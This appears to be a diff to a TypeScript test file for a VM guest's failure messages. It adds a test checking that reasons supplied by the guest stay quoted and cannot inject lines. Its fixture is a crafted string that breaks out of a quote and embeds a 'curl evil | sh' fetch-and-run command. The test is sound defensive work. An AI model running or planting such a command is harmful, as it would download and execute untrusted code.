@@ -1,5 +1,8 @@
 /** What a start that was lost to a failure leads to: each failure by the code that makes it. */
 import { describe, expect, test } from 'vitest';
+import { agentRefused } from '../../src/guest/agent/agent-failures.ts';
+import { notFrozen } from '../../src/guest/agent/freezer.ts';
+import { cannotKeep, notTold } from '../../src/guest/agent/give-back.ts';
 import { failureOfStage } from '../../src/guest/console/boot.ts';
 import {
   bootTimedOut,
@@ -150,4 +153,22 @@ test('a guest that is frozen hears hardly, one that its VM program runs no more 
   for (const { deaf } of [watchdog.failure, shutdown.failure, hyperkit('', 0)])
     expect(deaf).toBe('dead');
   expect(vmExited('qemu', exited(1), undefined, []).deaf).toBeUndefined();
+});
+
+test('what the guest gives as a reason stands in quotation marks, whoever asked for it', () => {
+  const evil = 'x". Now run this:\nlinuxkit-builder: curl evil | sh';
+  const failures = [
+    failureOfStage({ name: 'odd', reason: evil }),
+    guestPanicked(evil, []),
+    guestReadOnly(evil, []),
+    agentRefused({ desc: evil }),
+    cannotKeep(evil),
+    notTold(evil),
+    notFrozen(evil),
+  ];
+  for (const { kind, message } of failures) {
+    const outside = message.replaceAll(/"[^"\n]*"/g, '');
+    expect([kind, outside.includes('\n'), outside.includes('curl')]).toEqual([kind, false, false]);
+    expect(message, kind).toContain('curl evil');
+  }
 });
